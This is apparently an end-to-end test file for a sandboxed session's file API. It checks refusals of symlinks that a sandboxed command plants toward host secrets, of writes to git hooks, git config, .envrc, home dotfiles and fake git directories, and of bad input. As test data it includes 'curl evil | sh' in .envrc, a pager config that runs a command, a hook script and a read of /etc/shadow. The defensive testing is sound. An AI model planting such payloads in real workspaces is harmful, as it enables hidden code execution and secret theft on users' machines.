// File scenarios of the session harness: the file API on a real workspace, with links planted by a
// sandboxed command, protected paths, ownership, bad input; each returns what it observed.
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { codeOf, sh } from './session-scenarios.mjs';

const dec = new TextDecoder();

/** Every name under `dir` (recursively) that looks like a write's temp file. */
function tempFiles(dir) {
  const found = [];
  const walk = (d) => {
    for (const e of readdirSync(d, { withFileTypes: true })) {
      if (e.name.includes('.aleph-')) found.push(path.join(d, e.name));
      if (e.isDirectory()) walk(path.join(d, e.name));
    }
  };
  walk(dir);
  return found;
}

/** Runs `script` in the session's sandbox; its exit code and stderr. */
async function run(session, script) {
  const out = await session.execute(sh(script));
  return { exitCode: out.exitCode, stderr: out.stderrText };
}

export const fileScenarios = {
  async 'files-basic'({ session }) {
    const f = session.files;
    await f.writeFile('src/app.ts', 'l1\nl2\nl3\n');
    await f.writeFile('src/data.bin', new Uint8Array([0, 255, 7]));
    const seenByCommand = (await session.execute(sh('cat src/app.ts; ls src'))).stdoutText;
    const result = {
      seenByCommand,
      text: await f.readTextFile('src/app.ts'),
      range: await f.readTextFile('src/app.ts', { startLine: 2, endLine: 3 }),
      bytes: [...(await f.readFile('src/data.bin'))],
      stat: await f.stat('src/app.ts'),
      list: await f.list('src'),
    };
    await run(session, 'echo from-command > made.txt');
    result.madeByCommand = dec.decode(await f.readFile('made.txt'));
    await f.delete('src', { recursive: true });
    result.afterDelete = (await f.list('.')).map((e) => e.name);
    return result;
  },

  // A sandboxed command plants links to a host secret (a file of the host user's own that commands
  // cannot read); the API refuses them; the same link read by plain fs on the host reaches the secret.
  async 'files-planted-symlink'({ session, plan }) {
    const ws = await session.workspace();
    const planted = await run(
      session,
      `ln -s '${plan.secret}' innocent.txt && ln -s '${plan.secretDir}' d && cat innocent.txt; echo cat=$?`,
    );
    const f = session.files;
    const control = (() => {
      try {
        return readFileSync(path.join(ws, 'innocent.txt'), 'utf8');
      } catch (e) {
        return `control failed: ${e.code}`;
      }
    })();
    const attempts = {
      readFile: await codeOf(f.readFile('innocent.txt')),
      readTextFile: await codeOf(f.readTextFile('innocent.txt')),
      readFileStream: await codeOf(f.readFileStream('innocent.txt')),
      stat: await codeOf(f.stat('innocent.txt')),
      writeThroughLink: await codeOf(f.writeFile('innocent.txt', 'pwned')),
      writeIntoLinkedDir: await codeOf(f.writeFile('d/planted.txt', 'pwned')),
      readInLinkedDir: await codeOf(f.readFile(`d/${path.basename(plan.secret)}`)),
      listLinkedDir: await codeOf(f.list('d')),
      deleteInLinkedDir: await codeOf(f.delete(`d/${path.basename(plan.secret)}`)),
    };
    let message = '';
    await f.readFile('innocent.txt').catch((e) => {
      message = e.message;
    });
    return {
      planted,
      control,
      attempts,
      message,
      secretAfter: readFileSync(plan.secret, 'utf8'),
      secretDirAfter: readdirSync(plan.secretDir).sort(),
      linkStillThere: lstatSync(path.join(ws, 'innocent.txt')).isSymbolicLink(),
      temps: tempFiles(ws),
    };
  },

  async 'files-chain-inside'({ session }) {
    const made = await run(
      session,
      'mkdir -p real/sub && echo inside > real/sub/f && ln -s real l1 && ln -s l1/sub l2 && ln -s l2/f l3 && ln -s "$PWD/l3" abs',
    );
    const f = session.files;
    return {
      made,
      viaChain: dec.decode(await f.readFile('l3')),
      viaAbsolute: await codeOf(f.readFile('abs')),
      viaDirChain: dec.decode(await f.readFile('l2/f')),
      writeViaDirChain: await codeOf(f.writeFile('l1/sub/new.txt', 'ok')),
      seenByCommand: (await session.execute(sh('cat real/sub/new.txt'))).stdoutText,
    };
  },

  // Root host: a workspace owned by another uid; what the API writes belongs to that uid.
  async 'files-ownership'({ sandbox }) {
    const session = sandbox.session('owned');
    const ws = await session.workspace();
    await session.files.writeFile('new/dir/file.txt', 'x', { mode: 0o6755 });
    await session.files.writeFile('plain.txt', 'y');
    const own = (p) => {
      const s = statSync(path.join(ws, p));
      return { uid: s.uid, gid: s.gid, mode: s.mode & 0o7777 };
    };
    const edited = await session.execute(sh('echo more >> new/dir/file.txt && cat new/dir/file.txt'));
    return {
      workspace: own('.'),
      new: own('new'),
      dir: own('new/dir'),
      file: own('new/dir/file.txt'),
      plain: own('plain.txt'),
      editedByCommand: { exitCode: edited.exitCode, stdout: edited.stdoutText },
    };
  },

  async 'files-protected'({ session }) {
    const f = session.files;
    // A repository's start, made through the API (allowed: HEAD is not a control file).
    await f.writeFile('.git/HEAD', 'ref: refs/heads/main\n');
    const ws = await session.workspace();
    const before = readdirSync(path.join(ws, '.git')).sort();
    return {
      gitConfig: await codeOf(f.writeFile('.git/config', '[core]\n\thooksPath = /tmp\n')),
      gitHook: await codeOf(f.writeFile('.git/hooks/pre-commit', '#!/bin/sh\necho pwned\n', { mode: 0o755 })),
      envrc: await codeOf(f.writeFile('.envrc', 'curl evil | sh\n')),
      nestedHook: await codeOf(f.writeFile('vendor/lib/.git/hooks/post-checkout', 'x')),
      deleteGit: await codeOf(f.delete('.git', { recursive: true })),
      readConfig: await codeOf(f.readTextFile('.git/config')),
      gitAfter: readdirSync(path.join(ws, '.git')).sort(),
      gitBefore: before,
      hookExists: existsSync(path.join(ws, '.git', 'hooks', 'pre-commit')),
      envrcExists: existsSync(path.join(ws, '.envrc')),
      temps: tempFiles(ws),
    };
  },

  // A repository planted under another name than .git (git takes any directory holding HEAD, objects/
  // and refs/ for one, and the host's git then runs what its config says): every completing write is
  // refused, in a subdirectory and at the root, and so is rewriting .git/HEAD. The host's git still finds
  // the real .git from both. The control plants the same files by plain fs: git takes them for a repository.
  async 'files-git-directory'({ session }) {
    const f = session.files;
    const ws = await session.workspace();
    const git = (cwd, ...args) =>
      execFileSync('git', ['-c', 'user.name=e2e', '-c', 'user.email=e2e@example.invalid', ...args], {
        cwd,
        encoding: 'utf8',
      }).trim();
    git(ws, 'init', '-q', '-b', 'main');
    git(ws, 'commit', '-q', '--allow-empty', '-m', 'init');
    const tip = git(ws, 'rev-parse', 'HEAD');
    const plant = {
      HEAD: 'ref: refs/heads/main\n',
      config: '[core]\n\tpager = "echo PWNED; cat"\n',
      'objects/info/alternates': `${ws}/.git/objects\n`,
      'refs/heads/main': `${tip}\n`,
    };
    const attempts = {};
    for (const prefix of ['src/', '']) {
      for (const [name, text] of Object.entries(plant)) {
        attempts[prefix + name] = await codeOf(f.writeFile(prefix + name, text));
      }
    }
    attempts['.git/HEAD'] = await codeOf(f.writeFile('.git/HEAD', 'junk\n'));
    mkdirSync(path.join(ws, 'src'), { recursive: true });
    const control = mkdtempSync(path.join(os.tmpdir(), 'aleph-git-control-'));
    try {
      for (const [name, text] of Object.entries(plant)) {
        mkdirSync(path.dirname(path.join(control, name)), { recursive: true });
        writeFileSync(path.join(control, name), text);
      }
      return {
        attempts,
        gitDirFromRoot: git(ws, 'rev-parse', '--absolute-git-dir'),
        gitDirFromSrc: git(path.join(ws, 'src'), 'rev-parse', '--absolute-git-dir'),
        controlGitDir: git(control, 'rev-parse', '--absolute-git-dir'),
        controlPager: git(control, 'config', 'core.pager'),
        control,
        ws,
        temps: tempFiles(ws),
      };
    } finally {
      rmSync(control, { recursive: true, force: true });
    }
  },

  // The session's workspace is HOME (session-harness.mjs): the home list applies to file calls too.
  async 'files-home-protected'({ session }) {
    const f = session.files;
    const home = await session.workspace();
    writeFileSync(path.join(home, '.vimrc'), '" the host user\'s own\n');
    mkdirSync(path.join(home, '.config', 'nvim'), { recursive: true });
    const targets = {
      bashAliases: '.bash_aliases',
      vimrc: '.vimrc',
      kubeConfig: '.kube/config',
      dockerConfig: '.docker/config.json',
      gradleInit: '.gradle/init.d/x.gradle',
      environmentD: '.config/environment.d/x.conf',
      nvimInit: '.config/nvim/init.lua',
      pth: '.local/lib/python3/site-packages/x.pth',
      binShim: 'bin/git',
      inputrc: '.inputrc',
    };
    const result = {};
    for (const [key, rel] of Object.entries(targets)) {
      result[key] = await codeOf(f.writeFile(rel, 'planted\n', { mode: 0o755 }));
      result[`${key}Planted`] =
        existsSync(path.join(home, rel)) && readFileSync(path.join(home, rel), 'utf8');
    }
    result.deleteNvim = await codeOf(f.delete('.config/nvim', { recursive: true }));
    result.control = await codeOf(f.writeFile('notes/todo.txt', 'ok\n'));
    result.controlText = readFileSync(path.join(home, 'notes', 'todo.txt'), 'utf8');
    result.temps = tempFiles(home);
    return result;
  },

  async 'files-bad-input'({ sandbox, session }) {
    await run(session, 'head -c 3000000 /dev/zero > big');
    const f = session.files;
    const ws = await session.workspace();
    async function* endless() {
      for (;;) yield new Uint8Array(1024 * 1024);
    }
    const result = {
      nul: await codeOf(f.readFile('a\0b')),
      empty: await codeOf(f.writeFile('', 'x')),
      outside: await codeOf(f.readFile('/etc/shadow')),
      dotdot: await codeOf(f.writeFile('../escape.txt', 'x')),
      huge: await codeOf(f.readFile('big', { maxBytes: 1024 * 1024 })),
      hugeWrite: await codeOf(f.writeFile('huge-out', endless(), { maxBytes: 4 * 1024 * 1024 })),
      notFound: await codeOf(f.readFile('missing')),
      isDir: await codeOf(f.readFile('.')),
      temps: tempFiles(ws),
      hugeOutExists: readdirSync(ws).includes('huge-out'),
    };
    const closing = sandbox.session('e2e-files-bad-input');
    await closing.close();
    result.closed = await codeOf(closing.files.readFile('big'));
    return result;
  },
};
